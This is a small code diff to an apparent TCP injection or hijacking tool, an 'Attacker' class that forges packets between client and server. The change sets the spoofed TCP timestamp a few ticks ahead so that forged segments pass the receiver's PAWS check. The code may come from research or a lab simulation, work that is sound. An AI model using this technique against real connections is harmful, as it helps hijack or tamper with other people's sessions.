@@ -199,11 +199,16 @@ class Attacker:
         self.send(bytes(pkt), "c2s" if frm == "c" else "s2c", flags, seq, ack, len(payload),
                   hops, bool(opts), payload, note)
 
+    TS_LEAD = 10
+
     @staticmethod
     def ts_now(side):
         """The impersonated side's TSval now: Linux's TS clock counts milliseconds, so
-        extrapolate from the last value seen (a stale one would fail PAWS)."""
-        return (side.tsval + int((time.time() - side.ts_time) * 1000)) & 0xFFFFFFFF
+        extrapolate from the last value seen (a stale one would fail PAWS), TS_LEAD
+        ticks ahead: the side may have sent a newer TSval the attacker has not read yet
+        (its pure ACK right after the exchange), which the receiver took as TS.Recent;
+        a TSval a little ahead passes PAWS, one behind it does not."""
+        return (side.tsval + int((time.time() - side.ts_time) * 1000) + Attacker.TS_LEAD) & 0xFFFFFFFF
 
     def resend_syn(self, seq, note):
         """Send the client's own SYN again with another sequence number (same options)."""
